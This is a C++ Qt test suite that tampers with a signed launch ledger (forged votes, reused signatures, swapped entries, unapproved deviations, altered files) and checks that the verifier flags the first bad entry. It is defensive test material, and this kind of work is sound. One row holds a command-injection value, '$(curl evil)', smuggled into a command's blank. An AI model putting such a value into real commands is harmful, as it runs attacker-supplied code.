// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/runner/run.h"
#include "core/session/decisions.h"
#include "core/session/launch_folder.h"
#include "core/session/verify_launch.h"
#include "tests/core/session/signed_ledger.h"

#include <QFile>
#include <QTest>

#include <algorithm>

using namespace Qt::StringLiterals;
using namespace holdpoint;
using events::Auth;
using test::SignedLedger;

using Attack = std::function<void(SignedLedger&)>;
Q_DECLARE_METATYPE(Attack)

namespace {

template <class Fact> Fact& fact(SignedLedger& ledger, size_t seq)
{
    return std::get<Fact>(ledger.entries.at(seq).body);
}

void insert(SignedLedger& ledger, size_t at, events::Event event, const QString& person = u"Ada"_s)
{
    ledger.add(std::move(event), person);
    std::rotate(ledger.entries.begin() + std::ptrdiff_t(at), ledger.entries.end() - 1, ledger.entries.end());
}

// Puts a request and its approval at the end; the next entry is number 20.
void approve(SignedLedger& ledger, const QString& kind, const QString& target, const QByteArray& before = {},
             const QByteArray& after = {})
{
    ledger.add(events::DeviationRequested{u"D2"_s, kind, target, before, after, u"why"_s}, u"Jonas"_s);
    ledger.add(events::DeviationApproved{u"D2"_s, u"agreed"_s});
}

events::RunStarted runUnder(const QString& deviation, const QByteArray& text = "./check.sh", qint64 run = 2)
{
    events::RunStarted started;
    started.run = run;
    started.step = u"p/s"_s;
    started.command = u"p/s/c"_s;
    started.text = text;
    started.workdir = u"/srv"_s;
    started.environment = {u"A"_s};
    started.deviations = {deviation};
    return started;
}

} // namespace

// Attacks by somebody who holds the machine and the log key: every checkpoint is good, and what people signed is not
// theirs to change. Each must be found at the entry where it begins.
class SessionAttacksTest : public QObject
{
    Q_OBJECT

    SignedLedger m_good;
    std::vector<events::Entry> m_entries;

    void changeFile(const QString& path)
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadWrite));
        const QByteArray bytes = file.readAll();
        const char changed = char(bytes.at(0) ^ 1);
        QVERIFY(file.seek(0) && file.write(&changed, 1) == 1);
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_good.fill();
        QCOMPARE(int(m_good.entries.size()), SignedLedger::filled);
        m_entries = m_good.entries;
    }

    void init()
    {
        m_good.entries = m_entries;
        m_good.launch = u"shop-1.0-0a1b2c3d"_s;
        m_good.rehearsal = false;
    }

    void theTrueOneIsIntact()
    {
        const ledger::Verdict verdict = session::verifyLaunch(m_good.write(), {}).value();
        QVERIFY2(verdict.intact, qPrintable(verdict.problem));
        QCOMPARE(verdict.entries, SignedLedger::filled);
    }

    // What the rules allow is no attack: one work under one leave, and blanks that became references.
    void whatWasApprovedIsIntact_data()
    {
        QTest::addColumn<Attack>("act");
        using namespace events;
        const auto row = [](const char* name, Attack act) { QTest::newRow(name) << std::move(act); };
        row("exactly the text", [](SignedLedger& l) {
            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --all \xff");
            l.add(runUnder(u"D2"_s, "./check.sh --all \xff"));
        });
        row("its blanks filled", [](SignedLedger& l) {
            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "[ -f x ] && ssh web './go <REV>' ____ a_b");
            l.add(runUnder(u"D2"_s, "[ -f x ] && ssh web './go '\"${HOLDPOINT_VALUE_REV@Q}\"'' "
                                    "\"${HOLDPOINT_VALUE_SITE_2}\" a_b"));
        });
        row("the approved folder and environment", [](SignedLedger& l) {
            approve(l, u"environment"_s, u"p/s/c"_s, "B=1\nC=1", "A=2");
            l.add(DeviationRequested{u"D3"_s, u"folder"_s, u"p/s/c"_s, "/opt", "/srv", u"why"_s}, u"Jonas"_s);
            l.add(DeviationApproved{u"D3"_s, {}});
            RunStarted run = runUnder(u"D2"_s);
            run.deviations.append(u"D3"_s);
            l.add(run);
        });
        row("boxes and commands of a step before its turn", [](SignedLedger& l) {
            approve(l, u"order"_s, u"p/s"_s);
            l.add(CheckTicked{u"p/s/one"_s, u"D2"_s});
            l.add(runUnder(u"D2"_s));
            l.add(CheckTicked{u"p/s/two"_s, u"D2"_s});
        });
        row("a gate before its turn, twice", [](SignedLedger& l) {
            approve(l, u"order"_s, u"g"_s);
            for (const bool go : {false, true}) {
                GateDecided decided{u"g"_s, go, go ? QString() : u"rain"_s, {}};
                decided.orderDeviation = u"D2"_s;
                l.add(decided);
            }
        });
        row("an override", [](SignedLedger& l) {
            approve(l, u"override"_s, u"g"_s);
            l.add(GateDecided{u"g"_s, true, {}, u"D2"_s});
        });
        row("a skip", [](SignedLedger& l) {
            approve(l, u"skip"_s, u"p/s"_s);
            l.add(StepSkipped{u"p/s"_s, u"late"_s, u"D2"_s});
        });
        row("the approved version", [](SignedLedger& l) {
            const QString sha256 = fact<RunbookLoaded>(l, 1).sha256;
            approve(l, u"runbook"_s, u"runbook"_s, {}, sha256.toLatin1());
            l.add(RunbookLoaded{sha256, u"r.md"_s, u"Shop"_s, u"D2"_s});
        });
        row("one that expired unused", [](SignedLedger& l) {
            approve(l, u"skip"_s, u"p/s"_s);
            l.add(DeviationExpired{u"D2"_s, u"p"_s});
        });
    }

    void whatWasApprovedIsIntact()
    {
        QFETCH(const Attack, act);
        act(m_good);
        const ledger::Verdict verdict = session::verifyLaunch(m_good.write(), {}).value();
        QVERIFY2(verdict.intact, qPrintable(u"%1: %2"_s.arg(verdict.firstBad.value_or(-1)).arg(verdict.problem)));
    }

    void attacks_data()
    {
        QTest::addColumn<Attack>("attack");
        QTest::addColumn<int>("bad");
        QTest::addColumn<QString>("words");
        const auto row = [](const char* name, int bad, const QString& words, Attack attack) {
            QTest::newRow(name) << std::move(attack) << bad << words;
        };
        using namespace events;
        row("a vote turned round", 6, u"another person, role, act or decision"_s,
            [](SignedLedger& l) { fact<VoteCast>(l, 6).go = false; });
        row("a vote for another seat", 6, u"did not hold the seat"_s,
            [](SignedLedger& l) { fact<VoteCast>(l, 6).seat = u"Technical Lead"_s; });
        row("a vote on other evidence", 6, u"other evidence"_s,
            [](SignedLedger& l) { fact<VoteCast>(l, 6).evidenceSha256[0] = u'f'; });
        row("a vote at another gate", 6, u"other evidence"_s,
            [](SignedLedger& l) { fact<VoteCast>(l, 6).gate = u"h"_s; });
        row("a vote with a reason put in", 6, u"another person, role, act or decision"_s,
            [](SignedLedger& l) { fact<VoteCast>(l, 6).reason = u"but only today"_s; });
        row("a spoken vote called signed", 7, u"no signature"_s,
            [](SignedLedger& l) { l.entries[7].actor.auth = Auth::Signed; });
        row("a signed vote called spoken", 6, u"not said to be signed"_s,
            [](SignedLedger& l) { l.entries[6].actor.auth = Auth::Spoken; });
        row("a vote that is neither", 7, u"neither signed"_s,
            [](SignedLedger& l) { l.entries[7].actor.auth = Auth::Claimed; });
        row("a decision turned round", 8, u"another person, role, act or decision"_s,
            [](SignedLedger& l) { fact<GateDecided>(l, 8).go = false; });
        row("a decision that stands in for more", 8, u"other evidence"_s,
            [](SignedLedger& l) { fact<GateDecided>(l, 8).stoodInFor = QStringList{u"Database Lead"_s}; });
        row("a decision by somebody else", 8, u"did not hold the role"_s,
            [](SignedLedger& l) { l.entries[8].actor.person = u"Jonas"_s; });
        row("an approval of another request", 10, u"other evidence: deviation D1"_s,
            [](SignedLedger& l) { fact<DeviationRequested>(l, 9).after = "c/1\nc/2"; });
        row("an approval before its request", 9, u"not requested"_s,
            [](SignedLedger& l) { std::swap(l.entries[9], l.entries[10]); });
        row("a deviation that nobody approved", 13, u"which nobody had approved"_s,
            [](SignedLedger& l) { fact<LaunchDeclared>(l, 13).deviation = u"D2"_s; });
        row("a signature of another entry", 12, u"another key"_s,
            [](SignedLedger& l) { fact<SignoffGiven>(l, 12).signature = fact<SignoffGiven>(l, 11).signature; });
        row("statement and signature of another entry", 12, u"another person, role, act or decision"_s,
            [](SignedLedger& l) {
                auto& to = fact<SignoffGiven>(l, 12);
                const auto& from = fact<SignoffGiven>(l, 11);
                to.statement = from.statement;
                to.signature = from.signature;
                to.publicKey = from.publicKey;
            });
        row("a signature of another person", 11, u"did not hold the role"_s,
            [](SignedLedger& l) { l.entries[11].actor.person = u"Tomasz Łind"_s; });
        row("a sign-off used again", 14, u"earlier entry already"_s, [](SignedLedger& l) {
            SignoffGiven again = fact<SignoffGiven>(l, 11);
            again.signoff = u"again"_s;
            insert(l, 14, again, u"Jonas"_s);
            l.entries[14].actor.auth = Auth::Signed;
        });
        row("a sign-off given twice", 14, u"signed off already"_s, [](SignedLedger& l) {
            insert(l, 14, fact<SignoffGiven>(l, 11), u"Jonas"_s);
            l.entries[14].actor.auth = Auth::Signed;
        });
        row("a sign-off without signature", 11, u"not signed"_s, [](SignedLedger& l) {
            fact<SignoffGiven>(l, 11) = {u"QA Lead"_s, u"QA Lead"_s, {}, {}, {}};
            l.entries[11].actor.auth = Auth::Claimed;
        });
        row("a sign-off behind the end of its key", 12, u"revoked before"_s, [](SignedLedger& l) {
            const KeyRevoked revoked = fact<KeyRevoked>(l, 14);
            insert(l, 11, revoked);
        });
        row("declared twice", 14, u"declared already"_s, [](SignedLedger& l) {
            insert(l, 14, fact<LaunchDeclared>(l, 13));
            l.entries[14].actor.auth = Auth::Signed;
        });
        row("declared in other words", 13, u"another person, role, act or decision"_s,
            [](SignedLedger& l) { fact<LaunchDeclared>(l, 13).text = u"The shop is shut."_s; });
        row("another key in the roster", 3, u"other evidence: roster line"_s, [](SignedLedger& l) {
            fact<RosterChanged>(l, 2).people[2].publicKey = fact<RosterChanged>(l, 2).people[1].publicKey;
        });
        row("another role in the roster", 3, u"role, act or decision"_s,
            [](SignedLedger& l) { fact<RosterChanged>(l, 2).people[2].roles = QStringList{u"Sponsor"_s}; });
        row("a deputy put into the roster", 3, u"other evidence: roster line"_s, [](SignedLedger& l) {
            fact<RosterChanged>(l, 2).people[2].deputyFor = QStringList{u"Launch Coordinator"_s};
        });
        row("a person twice in the roster", 2, u"twice"_s, [](SignedLedger& l) {
            auto& people = fact<RosterChanged>(l, 2).people;
            people.append(people.first());
        });
        row("a confirmation by somebody else", 3, u"Somebody else"_s,
            [](SignedLedger& l) { l.entries[3].actor.person = u"Ada"_s; });
        row("a revoked key enters the roster again", 15, u"revoked before"_s, [](SignedLedger& l) {
            const RosterChanged roster = fact<RosterChanged>(l, 2);
            insert(l, 15, roster);
        });
        row("what happened before was changed", 6, u"saw another ledger"_s,
            [](SignedLedger& l) { fact<RunStarted>(l, 4).text = "./other.sh"; });
        row("something was put in before", 7, u"saw another ledger"_s, [](SignedLedger& l) {
            insert(l, 4, NoteWritten{u"it was agreed"_s, {}});
        });
        row("something was taken out", 4, u"not started before"_s,
            [](SignedLedger& l) { l.entries.erase(l.entries.begin() + 4); });
        row("two were swapped", 4, u"not started before"_s,
            [](SignedLedger& l) { std::swap(l.entries[4], l.entries[5]); });
        row("a run that was started twice", 6, u"started before"_s, [](SignedLedger& l) {
            const RunStarted run = fact<RunStarted>(l, 4);
            insert(l, 6, run);
        });
        row("a statement over another root", 15, u"saw another ledger"_s, [](SignedLedger& l) {
            signoff::Statement statement = l.statement(u"Ada"_s, u"decision"_s, u"Launch Coordinator"_s, u"hold"_s);
            statement.treeSize = 9; // its root is that of 18
            statement.meaning = u"rain"_s;
            statement.evidence.insert(u"entry launch.held"_s, session::decidedSha256(LaunchHeld{u"rain"_s}));
            const LaunchHeld held{u"rain"_s, l.sign(statement)};
            insert(l, 15, held);
            l.entries[15].actor.auth = Auth::Signed;
        });
        row("all of it in another launch", 3, u"another launch"_s, [](SignedLedger& l) {
            l.launch = u"mart-1.0-00000000"_s;
            auto& opened = fact<LaunchOpened>(l, 0);
            opened.launch = l.launch;
            opened.origin = l.key().origin();
            opened.logKey = l.key().verifierKey();
        });
        row("a rehearsal called a launch", 3, u"another launch"_s, [](SignedLedger& l) {
            for (Entry& entry : l.entries)
                entry.rehearsal = true;
            l.rehearsal = true;
            auto& opened = fact<LaunchOpened>(l, 0);
            opened.origin = l.key().origin();
            opened.logKey = l.key().verifierKey();
        });
        row("one entry of a rehearsal", 17, u"rehearsal"_s, [](SignedLedger& l) { l.entries[17].rehearsal = true; });
        row("opened twice", 15, u"second time"_s, [](SignedLedger& l) {
            const LaunchOpened opened = fact<LaunchOpened>(l, 0);
            insert(l, 15, opened);
        });
        row("a vote behind the end", 15, u"behind the end"_s, [](SignedLedger& l) {
            insert(l, 14, LaunchEnded{u"over"_s});
            insert(l, 15, VoteCast{u"g"_s, u"Technical Lead"_s, true, {}, {}, {}, {}});
            l.entries[15].actor.auth = Auth::Spoken;
        });
        row("an answer to no roll call", 17, u"does not go on"_s, [](SignedLedger& l) {
            l.entries[17].body = RollCallAnswered{1, u"Ada"_s, true, {}};
        });
        row("another text than the approved one", 20, u"not what deviation D2 was approved for"_s, [](SignedLedger& l) {
            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --all");
            l.add(runUnder(u"D2"_s, "./check.sh --force"));
        });
        row("a reference where the approved text has no blank", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --rev 17");
            l.add(runUnder(u"D2"_s, "./check.sh --rev \"${HOLDPOINT_VALUE_REV}\""));
        });
        row("a shell line in the place of a blank", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --rev <REV>");
            l.add(runUnder(u"D2"_s, "./check.sh --rev $(curl evil)"));
        });
        row("another folder than the approved one", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
            approve(l, u"folder"_s, u"p/s/c"_s, "/opt", "/srv/other");
            l.add(runUnder(u"D2"_s));
        });
        row("an environment without what was approved", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
            approve(l, u"environment"_s, u"p/s/c"_s, "B=1", "B=2");
            l.add(runUnder(u"D2"_s));
        });
        row("a deviation of another command", 20, u"approved for something else"_s, [](SignedLedger& l) {
            approve(l, u"rerun"_s, u"p/s/other"_s);
            l.add(runUnder(u"D2"_s));
        });
        row("a deviation of another kind", 20, u"approved for something else"_s, [](SignedLedger& l) {
            approve(l, u"skip"_s, u"p/s/c"_s);
            l.add(runUnder(u"D2"_s));
        });
        row("a skip of another step", 20, u"approved for something else"_s, [](SignedLedger& l) {
            approve(l, u"skip"_s, u"p/s"_s);
            l.add(StepSkipped{u"p/t"_s, u"late"_s, u"D2"_s});
        });
        row("a box of another step", 20, u"approved for something else"_s, [](SignedLedger& l) {
            approve(l, u"order"_s, u"p/s"_s);
            l.add(CheckTicked{u"p/s-2/box"_s, u"D2"_s});
        });
        row("another gate before its turn", 20, u"approved for something else"_s, [](SignedLedger& l) {
            approve(l, u"order"_s, u"h"_s);
            GateDecided decided{u"g"_s, true, {}, {}};
            decided.orderDeviation = u"D2"_s;
            l.add(decided);
        });
        row("another version than the approved one", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
            approve(l, u"runbook"_s, u"runbook"_s, {}, fact<RunbookLoaded>(l, 1).sha256.toLatin1());
            l.add(RunbookLoaded{QString(64, u'b'), u"r.md"_s, u"Shop"_s, u"D2"_s});
        });
        row("a configuration under a runbook's deviation", 20, u"something else"_s, [](SignedLedger& l) {
            approve(l, u"runbook"_s, u"runbook"_s, {}, fact<RunbookLoaded>(l, 1).sha256.toLatin1());
            l.add(ConfigurationTrusted{fact<RunbookLoaded>(l, 1).sha256, u"D2"_s});
        });
        row("a deviation used twice", 21, u"a second time"_s, [](SignedLedger& l) {
            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --all");
            l.add(runUnder(u"D2"_s, "./check.sh --all"));
            l.add(runUnder(u"D2"_s, "./check.sh --all", 3));
        });
        row("a command let out of order twice", 21, u"a second time"_s, [](SignedLedger& l) {
            approve(l, u"order"_s, u"p/s/c"_s);
            l.add(runUnder(u"D2"_s));
            l.add(runUnder(u"D2"_s, "./check.sh", 3));
        });
        row("a declaration's deviation used again", 18, u"something else"_s, [](SignedLedger& l) {
            l.add(StepSkipped{u"p/s"_s, u"late"_s, u"D1"_s});
        });
        row("a deviation that had expired", 21, u"had expired"_s, [](SignedLedger& l) {
            approve(l, u"rerun"_s, u"p/s/c"_s);
            l.add(DeviationExpired{u"D2"_s, u"p"_s});
            l.add(runUnder(u"D2"_s));
        });
        row("a deviation that was rejected", 20, u"nobody had approved"_s, [](SignedLedger& l) {
            l.add(DeviationRequested{u"D2"_s, u"rerun"_s, u"p/s/c"_s, {}, {}, u"why"_s}, u"Jonas"_s);
            l.add(DeviationRejected{u"D2"_s, u"no"_s});
            l.add(runUnder(u"D2"_s));
        });
        row("an approval of what was rejected", 20, u"decided, used or expired before"_s, [](SignedLedger& l) {
            l.add(DeviationRequested{u"D2"_s, u"rerun"_s, u"p/s/c"_s, {}, {}, u"why"_s}, u"Jonas"_s);
            l.add(DeviationRejected{u"D2"_s, u"no"_s});
            l.add(DeviationApproved{u"D2"_s, u"after all"_s});
        });
        row("an approval of what was used", 21, u"decided, used or expired before"_s, [](SignedLedger& l) {
            approve(l, u"rerun"_s, u"p/s/c"_s);
            l.add(runUnder(u"D2"_s));
            l.add(DeviationApproved{u"D2"_s, u"once more"_s});
        });
        row("a note called signed", 17, u"no signature"_s,
            [](SignedLedger& l) { l.entries[17].actor.auth = Auth::Signed; });
    }

    void attacks()
    {
        QFETCH(const Attack, attack);
        QFETCH(const int, bad);
        QFETCH(const QString, words);
        attack(m_good);
        const ledger::Verdict verdict = session::verifyLaunch(m_good.write(), {}).value();
        QVERIFY(!verdict.intact);
        QVERIFY2(verdict.firstBad == bad && verdict.problem.contains(words),
                 qPrintable(u"%1: %2"_s.arg(verdict.firstBad.value_or(-1)).arg(verdict.problem)));
    }

    // Files beside the ledger, byte by byte as the entries name them.
    void filesBesideTheLedger()
    {
        const QString folder = m_good.write();
        const QString output = runner::outputPath(session::runPath(folder, 1));
        changeFile(output);
        const ledger::Verdict changed = session::verifyLaunch(folder, {}).value();
        QVERIFY2(!changed.intact && changed.firstBad == 5 && changed.problem.contains(output),
                 qPrintable(changed.problem));
        changeFile(output);
        QVERIFY(session::verifyLaunch(folder, {}).value().intact);
        QVERIFY(QFile::rename(output, output + u".away"_s));
        QCOMPARE(session::verifyLaunch(folder, {}).value().firstBad.value_or(-1), 5);
        QVERIFY(QFile::rename(output + u".away"_s, output));
        changeFile(session::inputPath(folder, std::get<events::RunbookLoaded>(m_entries[1].body).sha256));
        QCOMPARE(session::verifyLaunch(folder, {}).value().firstBad.value_or(-1), 1);
        changeFile(session::inputPath(folder, std::get<events::RunbookLoaded>(m_entries[1].body).sha256));
    }

    // Every byte of every statement and signature, changed: none passes for what was signed.
    void everyByteOfAStatement()
    {
        auto& given = fact<events::SignoffGiven>(m_good, 11);
        const events::SignoffGiven whole = given;
        int changes = 0;
        for (const bool statement : {true, false}) {
            const QByteArray& original = statement ? whole.statement : whole.signature;
            for (qsizetype at = 0; at < original.size(); at += 3) {
                given = whole;
                QByteArray& bytes = statement ? given.statement : given.signature;
                bytes[at] = char(bytes[at] ^ (1 << (at % 7)));
                // Line ends inside the armour may be any white space that ssh-keygen passes over.
                if (!statement && (original[at] == '\n' || bytes[at] == '\n' || bytes[at] == '\r'))
                    continue;
                const ledger::Verdict verdict = session::verifyLaunch(m_good.write(), {}).value();
                QVERIFY2(!verdict.intact && verdict.firstBad == 11,
                         qPrintable(u"%1 %2"_s.arg(statement).arg(at) + verdict.problem));
                ++changes;
            }
        }
        QVERIFY(changes > 200);
    }
};

QTEST_GUILESS_MAIN(SessionAttacksTest)
#include "tst_session_attacks.moc"
